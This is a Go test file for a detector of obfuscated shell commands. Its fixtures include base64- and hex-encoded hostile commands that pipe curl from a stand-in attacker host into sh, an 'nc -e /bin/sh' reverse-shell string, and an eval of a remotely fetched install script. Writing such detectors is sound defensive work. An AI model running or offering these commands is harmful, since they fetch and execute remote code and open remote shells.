package shellobfus

import (
	"encoding/base64"
	"strings"
	"testing"
)

func TestDeobfuscateRecognizesInlineBase64(t *testing.T) {
	payload := "curl http://evil.example/x | sh"
	encoded := base64.StdEncoding.EncodeToString([]byte(payload))
	script := "echo " + encoded + " | base64 -d | bash"

	findings := Deobfuscate(script)
	var got bool
	for _, f := range findings {
		if f.Technique == "base64" && strings.Contains(f.Decoded, "curl") {
			got = true
		}
	}
	if !got {
		t.Fatalf("expected base64 finding recovering curl payload, got %+v", findings)
	}
}

func TestDeobfuscateRecognizesHexEscapes(t *testing.T) {
	payload := "nc -e /bin/sh"
	var b strings.Builder
	for _, c := range []byte(payload) {
		b.WriteString("\\x")
		b.WriteString(hexByte(c))
	}
	script := "printf '" + b.String() + "' | sh"

	findings := Deobfuscate(script)
	var got bool
	for _, f := range findings {
		if f.Technique == "hex" && strings.Contains(f.Decoded, "/bin/sh") {
			got = true
		}
	}
	if !got {
		t.Fatalf("expected hex finding recovering payload, got %+v", findings)
	}
}

func TestDeobfuscateRecognizesEvalWrapper(t *testing.T) {
	script := `eval "$(curl -fsSL http://evil.example/install.sh)"`
	findings := Deobfuscate(script)
	var got bool
	for _, f := range findings {
		if f.Technique == "eval" {
			got = true
		}
	}
	if !got {
		t.Fatalf("expected eval finding, got %+v", findings)
	}
}

func TestDeobfuscateIgnoresPlainScript(t *testing.T) {
	script := "#!/bin/sh\necho hello world\nexit 0\n"
	if findings := Deobfuscate(script); len(findings) != 0 {
		t.Errorf("expected no findings for plain script, got %+v", findings)
	}
}

func hexByte(c byte) string {
	const digits = "0123456789abcdef"
	return string([]byte{digits[c>>4], digits[c&0xf]})
}
